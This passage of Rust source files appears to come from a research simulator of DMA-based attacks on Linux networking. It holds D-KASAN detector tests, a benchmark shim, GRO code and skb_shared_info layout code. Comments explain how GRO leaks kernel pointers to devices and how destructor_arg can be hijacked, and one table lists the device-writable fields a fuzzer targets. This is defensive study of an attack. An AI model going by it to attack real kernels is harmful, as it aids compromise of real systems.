                kva: Kva(PAGE + 0x10),
                len: 8,
                write: true,
                site: "memcpy_to_ring",
            },
        ]);
        assert_eq!(dk.findings_of(FindingKind::AccessAfterMap).len(), 1);
    }

    #[test]
    fn duplicate_sites_suppressed_unless_report_all() {
        let mut dk = DKasan::new();
        let evs = [
            map(0, PAGE, 256, DmaDirection::FromDevice, "m"),
            alloc(1, PAGE + 0x400, 64, "hot_site"),
            Event::Free {
                at: 2,
                kva: Kva(PAGE + 0x400),
            },
            alloc(3, PAGE + 0x400, 64, "hot_site"),
        ];
        dk.process(&evs);
        assert_eq!(dk.findings_of(FindingKind::AllocAfterMap).len(), 1);

        let mut all = DKasan::new();
        all.report_all = true;
        all.process(&evs);
        assert_eq!(all.findings_of(FindingKind::AllocAfterMap).len(), 2);
    }

    #[test]
    fn fault_events_are_censused_without_perturbing_the_shadow() {
        // Regression: a FaultInjected event marks an operation that did
        // NOT happen. It must not create shadow state, must not panic,
        // and must not change the findings a clean stream produces —
        // only the census should differ.
        let clean = [
            map(0, PAGE + 0x100, 256, DmaDirection::FromDevice, "nic_rx_map"),
            alloc(2, PAGE + 0x800, 512, "load_elf_phdrs"),
        ];
        let faulted = [
            map(0, PAGE + 0x100, 256, DmaDirection::FromDevice, "nic_rx_map"),
            Event::FaultInjected {
                at: 1,
                site: "sim_mem.kmalloc",
            },
            alloc(2, PAGE + 0x800, 512, "load_elf_phdrs"),
            Event::FaultInjected {
                at: 3,
                site: "sim_iommu.dma_map",
            },
            Event::FaultInjected {
                at: 4,
                site: "sim_mem.kmalloc",
            },
        ];
        let mut a = DKasan::new();
        a.process(&clean);
        let mut b = DKasan::new();
        b.process(&faulted);
        assert_eq!(a.findings().len(), b.findings().len());
        let f = b.findings_of(FindingKind::AllocAfterMap);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].site, "load_elf_phdrs", "site tags stay accurate");
        assert!(a.injected_faults().is_empty());
        assert_eq!(b.injected_faults().get("sim_mem.kmalloc"), Some(&2));
        assert_eq!(b.injected_faults().get("sim_iommu.dma_map"), Some(&1));
    }

    #[test]
    fn straddling_buffers_shadow_both_pages() {
        let mut dk = DKasan::new();
        dk.process(&[
            map(0, PAGE + 0xf00, 0x200, DmaDirection::FromDevice, "m"), // spans 2 pages
            alloc(1, PAGE + 0x1800, 64, "second_page_obj"),
        ]);
        assert_eq!(dk.findings_of(FindingKind::AllocAfterMap).len(), 1);
        assert_eq!(dk.exposed_pages(), 1);
    }
}
