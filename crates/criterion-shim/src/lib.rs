//! A dependency-free stand-in for the subset of the `criterion` API the
//! workspace benches use, so `cargo bench` works without network access.
//!
//! The statistical machinery of real criterion is out of scope; this
//! shim runs each benchmark for a fixed number of timed iterations and
//! prints the mean wall-clock time per iteration. The API mirrors
//! criterion 0.5 closely enough that swapping the real crate back in is
//! a one-line `Cargo.toml` change.

use std::time::{Duration, Instant};

/// Re-export of `std::hint::black_box` under criterion's name.
pub fn black_box<T>(x: T) -> T {
    std::hint::black_box(x)
}

/// How per-iteration setup output is batched (accepted for API
/// compatibility; the shim runs one setup per iteration regardless).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum BatchSize {
    /// Small per-iteration state.
    SmallInput,
    /// Large per-iteration state.
    LargeInput,
    /// One setup per measured batch.
    PerIteration,
}

/// The timing driver handed to each benchmark closure.
pub struct Bencher {
    iters: u64,
    total: Duration,
}

impl Bencher {
    /// Times `routine` over the configured number of iterations.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        let start = Instant::now();
        for _ in 0..self.iters {
            black_box(routine());
        }
        self.total += start.elapsed();
    }

    /// Times `routine` with a fresh `setup()` product per iteration;
    /// setup time is excluded from the measurement.
    pub fn iter_batched<I, O, S, R>(&mut self, mut setup: S, mut routine: R, _size: BatchSize)
    where
        S: FnMut() -> I,
        R: FnMut(I) -> O,
    {
        for _ in 0..self.iters {
            let input = setup();
            let start = Instant::now();
            black_box(routine(input));
            self.total += start.elapsed();
        }
    }
}

/// Per-iteration work declared for throughput reporting.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Throughput {
    /// The benchmark processes this many elements per iteration.
    Elements(u64),
    /// The benchmark processes this many bytes per iteration.
    Bytes(u64),
}

/// One finished benchmark measurement, kept by [`Criterion`] so a
/// harness can export machine-readable results after the run (the real
/// criterion writes these under `target/criterion/`; the shim hands
/// them to the caller instead).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BenchResult {
    /// Group the benchmark ran in.
    pub group: String,
    /// Benchmark id within the group.
    pub id: String,
    /// Iterations measured.
    pub iters: u64,
    /// Mean wall-clock nanoseconds per iteration.
    pub ns_per_iter: u64,
    /// Declared per-iteration work, if any.
    pub throughput: Option<Throughput>,
}

/// A named group of related benchmarks.
pub struct BenchmarkGroup<'a> {
    name: String,
    samples: u64,
    throughput: Option<Throughput>,
    parent: &'a mut Criterion,
}

impl BenchmarkGroup<'_> {
    /// Sets the iteration count (criterion's statistical sample size is
    /// approximated by a plain iteration count here).
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.samples = (n as u64).max(1);
        self
    }

    /// Accepted for compatibility; the shim has no time budget.
    pub fn measurement_time(&mut self, _d: Duration) -> &mut Self {
        self
    }

    /// Declares the per-iteration work so results can report a rate.
    pub fn throughput(&mut self, t: Throughput) -> &mut Self {
        self.throughput = Some(t);
        self
    }

    /// Runs one benchmark and prints its mean iteration time.
    pub fn bench_function<S: Into<String>, F>(&mut self, id: S, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let id = id.into();
        let mut b = Bencher {
            iters: self.samples,
            total: Duration::ZERO,
        };
        f(&mut b);
        let per_iter = b.total.as_nanos() / u128::from(b.iters.max(1));
        let rate = match self.throughput {
            Some(Throughput::Elements(n)) if per_iter > 0 => {
                format!(" ({:.1} Melem/s)", n as f64 * 1e3 / per_iter as f64)
            }
            Some(Throughput::Bytes(n)) if per_iter > 0 => {
                format!(
                    " ({:.1} MiB/s)",
                    n as f64 * 1e9 / (per_iter as f64 * 1024.0 * 1024.0)
                )
            }
            _ => String::new(),
        };
        println!(
            "{}/{}: {} ns/iter ({} iters){rate}",
            self.name, id, per_iter, b.iters
        );
        self.parent.results.push(BenchResult {
            group: self.name.clone(),
            id,
            iters: b.iters,
            ns_per_iter: per_iter as u64,
            throughput: self.throughput,
        });
        self
    }

    /// Ends the group (no-op; kept for API parity).
    pub fn finish(&mut self) {}
}

/// The benchmark harness entry point.
#[derive(Default)]
pub struct Criterion {
    samples: u64,
    results: Vec<BenchResult>,
}

impl Criterion {
    /// Default configuration: 20 iterations per benchmark.
    pub fn new() -> Self {
        Criterion {
            samples: 20,
            results: Vec::new(),
        }
    }

    /// Drains every [`BenchResult`] recorded so far, in run order.
    pub fn take_results(&mut self) -> Vec<BenchResult> {
        std::mem::take(&mut self.results)
    }

    /// Opens a named benchmark group.
    pub fn benchmark_group<S: Into<String>>(&mut self, name: S) -> BenchmarkGroup<'_> {
        let samples = self.samples;
        BenchmarkGroup {
            name: name.into(),
            samples,
            throughput: None,
            parent: self,
        }
    }

    /// Runs a standalone benchmark outside any group.
    pub fn bench_function<S: Into<String>, F>(&mut self, id: S, f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        self.benchmark_group("bench").bench_function(id, f);
        self
    }
}

/// Declares the benchmark list, mirroring criterion's macro. The
/// generated function returns the [`Criterion`] instance so a harness
/// `main` can drain [`Criterion::take_results`] after the run;
/// [`criterion_main!`] ignores the return value, matching the real
/// criterion's `()`-returning groups.
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() -> $crate::Criterion {
            let mut c = $crate::Criterion::new();
            $( $target(&mut c); )+
            c
        }
    };
}

/// Declares `main`, mirroring criterion's macro.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( let _ = $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bencher_runs_routine_the_configured_number_of_times() {
        let mut c = Criterion::new();
        let mut g = c.benchmark_group("t");
        g.sample_size(7);
        let mut count = 0u64;
        g.bench_function("count", |b| b.iter(|| count += 1));
        g.finish();
        assert_eq!(count, 7);
    }

    #[test]
    fn results_are_recorded_and_drained() {
        let mut c = Criterion::new();
        let mut g = c.benchmark_group("grp");
        g.sample_size(3)
            .throughput(Throughput::Elements(10))
            .bench_function("work", |b| b.iter(|| 1 + 1));
        g.finish();
        let rs = c.take_results();
        assert_eq!(rs.len(), 1);
        assert_eq!(rs[0].group, "grp");
        assert_eq!(rs[0].id, "work");
        assert_eq!(rs[0].iters, 3);
        assert_eq!(rs[0].throughput, Some(Throughput::Elements(10)));
        assert!(c.take_results().is_empty(), "drained");
    }

    #[test]
    fn iter_batched_gets_fresh_setup_each_iteration() {
        let mut c = Criterion::new();
        let mut g = c.benchmark_group("t");
        g.sample_size(5);
        let mut setups = 0u64;
        g.bench_function("batched", |b| {
            b.iter_batched(
                || {
                    setups += 1;
                    vec![1u8; 8]
                },
                |v| v.len(),
                BatchSize::SmallInput,
            )
        });
        assert_eq!(setups, 5);
    }
}
