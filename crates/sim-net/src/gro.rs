//! Generic Receive Offload (GRO).
//!
//! GRO converts multiple *linear* sk_buffs of one TCP stream into a
//! single sk_buff with *fragments*: for each merged segment it writes a
//! `skb_frag_t` — containing a **`struct page` pointer, a kernel
//! address** — into the head skb's `skb_shared_info`, which lives on a
//! DMA-mapped page.
//!
//! §5.5 / Figure 9: on a forwarding box, the attacker sends TCP segments,
//! GRO fills `frags[]` with the pages holding *the attacker's own
//! payload*, and the packet goes out TX with those kernel pointers
//! readable by the device. That is the KVA leak that completes the
//! Forward Thinking attack.

use crate::packet::{FlowId, Packet, Proto};
use crate::shinfo::{Frag, MAX_FRAGS};
use crate::skb::SkBuff;
use dma_core::{Result, SimCtx};
use sim_mem::MemorySystem;
use std::collections::HashMap;

#[derive(Clone)]
struct GroFlow {
    head: SkBuff,
    head_packet: Packet,
    next_seq: u32,
    merged: usize,
}

/// Per-NAPI GRO state.
#[derive(Clone, Default)]
pub struct GroEngine {
    flows: HashMap<FlowId, GroFlow>,
    /// Merge budget per head before an automatic flush (like
    /// `MAX_GRO_SKBS` / gro_count limits).
    pub max_merge: usize,
}

impl GroEngine {
    /// Creates an engine with the default merge budget.
    pub fn new() -> Self {
        GroEngine {
            flows: HashMap::new(),
            max_merge: MAX_FRAGS,
        }
    }

    /// `napi_gro_receive()`: offer a linear skb to GRO.
    ///
    /// Returns any skbs flushed up the stack by this call (each paired
    /// with its parsed packet). The offered skb may be absorbed into a
    /// flow head — its payload page is then referenced by a new frag
    /// entry and its buffer ownership moves to the head.
    pub fn receive(
        &mut self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        skb: SkBuff,
    ) -> Result<Vec<(Packet, SkBuff)>> {
        let bytes = skb.payload(ctx, mem)?;
        let Some(packet) = Packet::from_wire(&bytes) else {
            // Unparseable: pass through untouched (the stack will drop it).
            return Ok(vec![(Packet::udp(0, 0, bytes), skb)]);
        };
        let flow = packet.flow();

        let Proto::Tcp { seq } = packet.proto else {
            // UDP is never aggregated.
            return Ok(vec![(packet, skb)]);
        };

        let mut out = Vec::new();
        match self.flows.get_mut(&flow) {
            Some(f) if seq == f.next_seq && f.merged < self.max_merge.min(MAX_FRAGS) => {
                Self::merge(ctx, mem, f, &packet, skb)?;
                return Ok(out);
            }
            Some(_) => {
                // Out-of-order or full head: flush it, start fresh below.
                let f = self.flows.remove(&flow).expect("checked present");
                out.push((f.head_packet, f.head));
            }
            None => {}
        }
        let next_seq = seq.wrapping_add(packet.payload.len() as u32);
        self.flows.insert(
            flow,
            GroFlow {
                head: skb,
                head_packet: packet,
                next_seq,
                merged: 0,
            },
        );
        Ok(out)
    }

    fn merge(
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        f: &mut GroFlow,
        packet: &Packet,
        skb: SkBuff,
    ) -> Result<()> {
        // Frag entry describing the merged segment's payload *in place*:
        // struct page of the payload's page + offset within it. This is
        // the kernel-pointer write onto a device-visible page.
        let payload_kva =
            dma_core::Kva(skb.payload_kva().raw() + crate::packet::HEADER_SIZE as u64);
        let payload_len = packet.payload.len() as u32;
        let pfn = mem.layout.kva_to_pfn(payload_kva)?;
        let page_ptr = mem.layout.pfn_to_page(pfn)?.raw();
        let offset = payload_kva.page_offset() as u32;

        let sh = f.head.shinfo();
        let idx = sh.nr_frags(ctx, mem)? as usize;
        sh.set_frag(
            ctx,
            mem,
            idx,
            Frag {
                page: page_ptr,
                offset,
                size: payload_len,
            },
        )?;
        sh.set_nr_frags(ctx, mem, (idx + 1) as u8)?;

        // The head now owns the merged skb's buffer.
        f.head.owned_frag_buffers.push((skb.data, skb.alloc));
        f.head.owned_frag_buffers.extend(skb.owned_frag_buffers);
        f.head_packet.payload.extend_from_slice(&packet.payload);
        f.next_seq = f.next_seq.wrapping_add(payload_len);
        f.merged += 1;
        Ok(())
    }

    /// Flushes every held flow (end of a NAPI poll cycle).
    pub fn flush_all(&mut self) -> Vec<(Packet, SkBuff)> {
        self.flows
            .drain()
            .map(|(_, f)| (f.head_packet, f.head))
            .collect()
    }

    /// Number of flows currently held.
    pub fn held_flows(&self) -> usize {
        self.flows.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::skb::netdev_alloc_skb;
    use sim_mem::MemConfig;

    fn mk() -> (SimCtx, MemorySystem, GroEngine) {
        (
            SimCtx::new(),
            MemorySystem::new(&MemConfig::default()),
            GroEngine::new(),
        )
    }

    fn rx_skb(ctx: &mut SimCtx, mem: &mut MemorySystem, p: &Packet) -> SkBuff {
        let mut skb = netdev_alloc_skb(ctx, mem, 1600).unwrap();
        skb.put(ctx, mem, &p.to_wire()).unwrap();
        skb
    }

    #[test]
    fn consecutive_tcp_segments_merge_into_frags() {
        let (mut ctx, mut mem, mut gro) = mk();
        let p1 = Packet::tcp(1, 2, 0, vec![b'a'; 100]);
        let p2 = Packet::tcp(1, 2, 100, vec![b'b'; 100]);
        let p3 = Packet::tcp(1, 2, 200, vec![b'c'; 100]);
        let s1 = rx_skb(&mut ctx, &mut mem, &p1);
        let s2 = rx_skb(&mut ctx, &mut mem, &p2);
        let s3 = rx_skb(&mut ctx, &mut mem, &p3);
        assert!(gro.receive(&mut ctx, &mut mem, s1).unwrap().is_empty());
        assert!(gro.receive(&mut ctx, &mut mem, s2).unwrap().is_empty());
        assert!(gro.receive(&mut ctx, &mut mem, s3).unwrap().is_empty());
        let flushed = gro.flush_all();
        assert_eq!(flushed.len(), 1);
        let (pkt, head) = &flushed[0];
        assert_eq!(pkt.payload.len(), 300);
        // Two frag entries were written into shared info — as vmemmap
        // (struct page) kernel pointers.
        let frags = head.shinfo().frags(&mut ctx, &mem).unwrap();
        assert_eq!(frags.len(), 2);
        for f in &frags {
            assert_eq!(
                dma_core::layout::VmRegion::classify(f.page),
                Some(dma_core::layout::VmRegion::Vmemmap),
                "frag page pointer must be a struct page address"
            );
            assert_eq!(f.size, 100);
        }
        assert_eq!(head.owned_frag_buffers.len(), 2);
    }

    #[test]
    fn frag_points_at_the_segment_payload() {
        let (mut ctx, mut mem, mut gro) = mk();
        let p1 = Packet::tcp(1, 2, 0, vec![0xaa; 64]);
        let p2 = Packet::tcp(1, 2, 64, vec![0xbb; 64]);
        let s1 = rx_skb(&mut ctx, &mut mem, &p1);
        let s2 = rx_skb(&mut ctx, &mut mem, &p2);
        gro.receive(&mut ctx, &mut mem, s1).unwrap();
        gro.receive(&mut ctx, &mut mem, s2).unwrap();
        let (_, head) = gro.flush_all().pop().unwrap();
        let f = head.shinfo().frag(&mut ctx, &mem, 0).unwrap();
        // Resolve the frag back to a KVA and check the bytes.
        let pfn = mem.layout.page_to_pfn(dma_core::Kva(f.page)).unwrap();
        let kva = dma_core::Kva(mem.layout.pfn_to_kva(pfn).unwrap().raw() + f.offset as u64);
        let mut buf = vec![0u8; f.size as usize];
        mem.cpu_read(&mut ctx, kva, &mut buf, "t").unwrap();
        assert_eq!(buf, vec![0xbb; 64]);
    }

    #[test]
    fn udp_is_not_aggregated() {
        let (mut ctx, mut mem, mut gro) = mk();
        let p = Packet::udp(1, 2, vec![1, 2, 3]);
        let s = rx_skb(&mut ctx, &mut mem, &p);
        let out = gro.receive(&mut ctx, &mut mem, s).unwrap();
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].0, p);
        assert_eq!(gro.held_flows(), 0);
    }

    #[test]
    fn out_of_order_segment_flushes_head() {
        let (mut ctx, mut mem, mut gro) = mk();
        let p1 = Packet::tcp(1, 2, 0, vec![0; 50]);
        let p_gap = Packet::tcp(1, 2, 999, vec![0; 50]);
        let s1 = rx_skb(&mut ctx, &mut mem, &p1);
        let sg = rx_skb(&mut ctx, &mut mem, &p_gap);
        assert!(gro.receive(&mut ctx, &mut mem, s1).unwrap().is_empty());
        let flushed = gro.receive(&mut ctx, &mut mem, sg).unwrap();
        assert_eq!(flushed.len(), 1, "stale head must flush");
        assert_eq!(flushed[0].0.payload.len(), 50);
        assert_eq!(gro.held_flows(), 1, "gap segment becomes the new head");
    }

    #[test]
    fn distinct_flows_do_not_merge() {
        let (mut ctx, mut mem, mut gro) = mk();
        for dst in 10..14 {
            let p = Packet::tcp(1, dst, 0, vec![0; 10]);
            let s = rx_skb(&mut ctx, &mut mem, &p);
            assert!(gro.receive(&mut ctx, &mut mem, s).unwrap().is_empty());
        }
        assert_eq!(gro.held_flows(), 4);
        assert_eq!(gro.flush_all().len(), 4);
    }

    #[test]
    fn merge_budget_caps_frag_count() {
        let (mut ctx, mut mem, mut gro) = mk();
        gro.max_merge = 3;
        let mut seq = 0u32;
        let mut flushed_total = 0;
        for _ in 0..10 {
            let p = Packet::tcp(1, 2, seq, vec![0; 10]);
            seq += 10;
            let s = rx_skb(&mut ctx, &mut mem, &p);
            flushed_total += gro.receive(&mut ctx, &mut mem, s).unwrap().len();
        }
        flushed_total += gro.flush_all().len();
        // 10 segments, heads of 4 merges each (head + 3): ceil(10/4) heads.
        assert_eq!(flushed_total, 3);
    }
}
