//! Byte layout of `skb_shared_info` and `ubuf_info`, written into and
//! read from *simulated memory* so that device DMA tampering is fully
//! effective.
//!
//! The layout mirrors Linux 5.0 (x86-64):
//!
//! ```text
//! struct skb_shared_info {            offset
//!     u8  nr_frags;                        0
//!     u8  tx_flags;                        1
//!     u16 gso_size;                        2
//!     u16 gso_segs;                        4
//!     u16 gso_type;                        6
//!     struct sk_buff *frag_list;           8
//!     struct skb_shared_hwtstamps;        16
//!     u32 tskey;                          24
//!     u32 ip6_frag_id;                    28
//!     atomic_t dataref (+pad);            32
//!     void *destructor_arg;               40   <-- the hijacked pointer
//!     skb_frag_t frags[17];               48   (16 bytes each: page, off, size)
//! };                                  = 320 bytes
//!
//! struct ubuf_info {
//!     void (*callback)(struct ubuf_info *, bool);   0
//!     void *ctx;                                    8
//!     u64 desc;                                    16
//! };                                  = 24 bytes
//! ```

use dma_core::{Kva, Result, SimCtx};
use sim_mem::MemorySystem;

/// Size of `skb_shared_info` in bytes.
pub const SHINFO_SIZE: usize = 320;
/// Offset of `nr_frags` (u8).
pub const SHINFO_NR_FRAGS: usize = 0;
/// Offset of `gso_size` (u16).
pub const SHINFO_GSO_SIZE: usize = 2;
/// Offset of `frag_list` (pointer).
pub const SHINFO_FRAG_LIST: usize = 8;
/// Offset of `dataref`.
pub const SHINFO_DATAREF: usize = 32;
/// Offset of `destructor_arg` — the callback-bearing pointer of §5.1.
pub const SHINFO_DESTRUCTOR_ARG: usize = 40;
/// Offset of `frags[0]`.
pub const SHINFO_FRAGS: usize = 48;
/// Size of one `skb_frag_t`.
pub const FRAG_SIZE: usize = 16;
/// Maximum number of fragments (`MAX_SKB_FRAGS`).
pub const MAX_FRAGS: usize = 17;

/// The device-writable `skb_shared_info` fields the fuzzer's mutation
/// engine targets, as `(name, byte offset, field width)`. Every entry
/// lies inside the DMA-mapped window of §3.2 type (b): a device write
/// at `shinfo_base + offset` tampers with exactly this field.
pub const DEVICE_WRITABLE_FIELDS: &[(&str, usize, usize)] = &[
    ("nr_frags", SHINFO_NR_FRAGS, 1),
    ("gso_size", SHINFO_GSO_SIZE, 2),
    ("frag_list", SHINFO_FRAG_LIST, 8),
    ("dataref", SHINFO_DATAREF, 4),
    ("destructor_arg", SHINFO_DESTRUCTOR_ARG, 8),
    ("frags0_page", SHINFO_FRAGS, 8),
];

/// Size of `ubuf_info` in bytes.
pub const UBUF_INFO_SIZE: usize = 24;
/// Offset of the `callback` function pointer inside `ubuf_info`.
pub const UBUF_CALLBACK: usize = 0;
/// Offset of `ctx`.
pub const UBUF_CTX: usize = 8;
/// Offset of `desc`.
pub const UBUF_DESC: usize = 16;

/// One fragment descriptor as stored in `frags[]`: a `struct page`
/// pointer (a vmemmap KVA — a kernel pointer on a device-visible page!),
/// a byte offset into that page's compound buffer, and a length.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Frag {
    /// `struct page *` of the fragment (vmemmap address).
    pub page: u64,
    /// Offset within the page.
    pub offset: u32,
    /// Fragment length.
    pub size: u32,
}

/// CPU-side view of an `skb_shared_info` at `base` (always
/// `skb.data + skb.buf_size`; always on the DMA-mapped page).
#[derive(Clone, Copy, Debug)]
pub struct SharedInfo {
    /// KVA of the structure.
    pub base: Kva,
}

impl SharedInfo {
    /// Initializes the structure the way `build_skb`/`__alloc_skb` do:
    /// zero everything, set `dataref = 1`.
    pub fn init(&self, ctx: &mut SimCtx, mem: &mut MemorySystem) -> Result<()> {
        mem.cpu_write(ctx, self.base, &[0u8; SHINFO_SIZE], "skb_init_shared_info")?;
        mem.cpu_write(
            ctx,
            Kva(self.base.raw() + SHINFO_DATAREF as u64),
            &1u32.to_le_bytes(),
            "skb_init_shared_info",
        )
    }

    /// Reads `nr_frags`.
    pub fn nr_frags(&self, ctx: &mut SimCtx, mem: &MemorySystem) -> Result<u8> {
        let mut b = [0u8; 1];
        mem.cpu_read(
            ctx,
            Kva(self.base.raw() + SHINFO_NR_FRAGS as u64),
            &mut b,
            "skb",
        )?;
        Ok(b[0])
    }

    /// Writes `nr_frags`.
    pub fn set_nr_frags(&self, ctx: &mut SimCtx, mem: &mut MemorySystem, n: u8) -> Result<()> {
        mem.cpu_write(
            ctx,
            Kva(self.base.raw() + SHINFO_NR_FRAGS as u64),
            &[n],
            "skb",
        )
    }

    /// Reads `dataref` (the buffer share count).
    pub fn dataref(&self, ctx: &mut SimCtx, mem: &MemorySystem) -> Result<u32> {
        let mut b = [0u8; 4];
        mem.cpu_read(
            ctx,
            Kva(self.base.raw() + SHINFO_DATAREF as u64),
            &mut b,
            "skb",
        )?;
        Ok(u32::from_le_bytes(b))
    }

    /// Writes `dataref`.
    pub fn set_dataref(&self, ctx: &mut SimCtx, mem: &mut MemorySystem, v: u32) -> Result<()> {
        mem.cpu_write(
            ctx,
            Kva(self.base.raw() + SHINFO_DATAREF as u64),
            &v.to_le_bytes(),
            "skb",
        )
    }

    /// Reads `destructor_arg`.
    pub fn destructor_arg(&self, ctx: &mut SimCtx, mem: &MemorySystem) -> Result<u64> {
        mem.cpu_read_u64(
            ctx,
            Kva(self.base.raw() + SHINFO_DESTRUCTOR_ARG as u64),
            "skb",
        )
    }

    /// Writes `destructor_arg` (the kernel does this for zero-copy TX;
    /// the attacker does it over DMA).
    pub fn set_destructor_arg(
        &self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        v: u64,
    ) -> Result<()> {
        mem.cpu_write_u64(
            ctx,
            Kva(self.base.raw() + SHINFO_DESTRUCTOR_ARG as u64),
            v,
            "skb",
        )
    }

    /// Reads `frags[idx]`.
    pub fn frag(&self, ctx: &mut SimCtx, mem: &MemorySystem, idx: usize) -> Result<Frag> {
        debug_assert!(idx < MAX_FRAGS);
        let off = self.base.raw() + (SHINFO_FRAGS + idx * FRAG_SIZE) as u64;
        let page = mem.cpu_read_u64(ctx, Kva(off), "skb")?;
        let mut b = [0u8; 8];
        mem.cpu_read(ctx, Kva(off + 8), &mut b, "skb")?;
        Ok(Frag {
            page,
            offset: u32::from_le_bytes(b[0..4].try_into().expect("4 bytes")),
            size: u32::from_le_bytes(b[4..8].try_into().expect("4 bytes")),
        })
    }

    /// Writes `frags[idx]` (GRO and zero-copy TX do this — kernel
    /// pointers written to a device-visible page).
    pub fn set_frag(
        &self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        idx: usize,
        f: Frag,
    ) -> Result<()> {
        debug_assert!(idx < MAX_FRAGS);
        let off = self.base.raw() + (SHINFO_FRAGS + idx * FRAG_SIZE) as u64;
        mem.cpu_write_u64(ctx, Kva(off), f.page, "skb")?;
        let mut b = [0u8; 8];
        b[0..4].copy_from_slice(&f.offset.to_le_bytes());
        b[4..8].copy_from_slice(&f.size.to_le_bytes());
        mem.cpu_write(ctx, Kva(off + 8), &b, "skb")
    }

    /// Reads all populated frags.
    pub fn frags(&self, ctx: &mut SimCtx, mem: &MemorySystem) -> Result<Vec<Frag>> {
        let n = self.nr_frags(ctx, mem)? as usize;
        (0..n.min(MAX_FRAGS))
            .map(|i| self.frag(ctx, mem, i))
            .collect()
    }
}

/// CPU-side view of a `ubuf_info` at `base`.
#[derive(Clone, Copy, Debug)]
pub struct UbufInfo {
    /// KVA of the structure.
    pub base: Kva,
}

impl UbufInfo {
    /// Writes the three fields (what `sock_zerocopy_alloc` does).
    pub fn write(
        &self,
        ctx: &mut SimCtx,
        mem: &mut MemorySystem,
        callback: u64,
        ctx_ptr: u64,
        desc: u64,
    ) -> Result<()> {
        mem.cpu_write_u64(
            ctx,
            Kva(self.base.raw() + UBUF_CALLBACK as u64),
            callback,
            "ubuf",
        )?;
        mem.cpu_write_u64(ctx, Kva(self.base.raw() + UBUF_CTX as u64), ctx_ptr, "ubuf")?;
        mem.cpu_write_u64(ctx, Kva(self.base.raw() + UBUF_DESC as u64), desc, "ubuf")
    }

    /// Reads the callback pointer.
    pub fn callback(&self, ctx: &mut SimCtx, mem: &MemorySystem) -> Result<u64> {
        mem.cpu_read_u64(ctx, Kva(self.base.raw() + UBUF_CALLBACK as u64), "ubuf")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sim_mem::MemConfig;

    fn mk() -> (SimCtx, MemorySystem, SharedInfo) {
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let buf = mem.kmalloc(&mut ctx, 2048, "t").unwrap();
        let sh = SharedInfo {
            base: Kva(buf.raw() + 1728),
        };
        sh.init(&mut ctx, &mut mem).unwrap();
        (ctx, mem, sh)
    }

    #[test]
    fn layout_constants_are_consistent() {
        // Computed through locals so the relationships are checked as
        // data rather than folded away.
        let (frags, nfrags, fsz) = (SHINFO_FRAGS, MAX_FRAGS, FRAG_SIZE);
        assert_eq!(frags + nfrags * fsz, SHINFO_SIZE);
        let darg = SHINFO_DESTRUCTOR_ARG;
        assert!(darg + 8 <= frags);
        assert_eq!(UBUF_INFO_SIZE, 24);
        for &(name, off, width) in DEVICE_WRITABLE_FIELDS {
            assert!(off + width <= SHINFO_SIZE, "{name} overruns shinfo");
        }
    }

    #[test]
    fn init_zeroes_and_sets_dataref() {
        let (mut ctx, mem, sh) = mk();
        assert_eq!(sh.nr_frags(&mut ctx, &mem).unwrap(), 0);
        assert_eq!(sh.destructor_arg(&mut ctx, &mem).unwrap(), 0);
        let dataref = mem
            .cpu_read_u64(&mut ctx, Kva(sh.base.raw() + SHINFO_DATAREF as u64), "t")
            .unwrap() as u32;
        assert_eq!(dataref, 1);
    }

    #[test]
    fn frag_roundtrip() {
        let (mut ctx, mut mem, sh) = mk();
        let f = Frag {
            page: 0xffff_ea00_0000_1240,
            offset: 256,
            size: 1448,
        };
        sh.set_frag(&mut ctx, &mut mem, 0, f).unwrap();
        sh.set_nr_frags(&mut ctx, &mut mem, 1).unwrap();
        assert_eq!(sh.frag(&mut ctx, &mem, 0).unwrap(), f);
        assert_eq!(sh.frags(&mut ctx, &mem).unwrap(), vec![f]);
    }

    #[test]
    fn destructor_arg_roundtrip() {
        let (mut ctx, mut mem, sh) = mk();
        sh.set_destructor_arg(&mut ctx, &mut mem, 0xffff_8880_0bad_f00d)
            .unwrap();
        assert_eq!(
            sh.destructor_arg(&mut ctx, &mem).unwrap(),
            0xffff_8880_0bad_f00d
        );
    }

    #[test]
    fn ubuf_info_roundtrip() {
        let (mut ctx, mut mem, _sh) = mk();
        let b = mem.kmalloc(&mut ctx, UBUF_INFO_SIZE, "u").unwrap();
        let u = UbufInfo { base: b };
        u.write(&mut ctx, &mut mem, 0xffff_ffff_8123_0000, 0, 7)
            .unwrap();
        assert_eq!(u.callback(&mut ctx, &mem).unwrap(), 0xffff_ffff_8123_0000);
    }
}
