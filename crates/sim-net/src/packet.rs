//! A minimal packet model: enough header structure for flow
//! classification, GRO aggregation, and forwarding decisions.
//!
//! On the wire (and in RX/TX buffers) a packet is a 24-byte header
//! followed by the payload. The header is what a NIC would parse; the
//! simulator keeps it deliberately simple.

/// A flow identifier: (src, dst, protocol discriminant).
pub type FlowId = (u32, u32, u8);

/// Transport protocol of a packet.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Proto {
    /// TCP-like: carries a sequence number, eligible for GRO.
    Tcp {
        /// Byte sequence number of the first payload byte.
        seq: u32,
    },
    /// UDP-like: no sequencing, never aggregated.
    Udp,
}

/// A parsed packet.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Packet {
    /// Source address.
    pub src: u32,
    /// Destination address.
    pub dst: u32,
    /// Transport protocol.
    pub proto: Proto,
    /// Payload bytes.
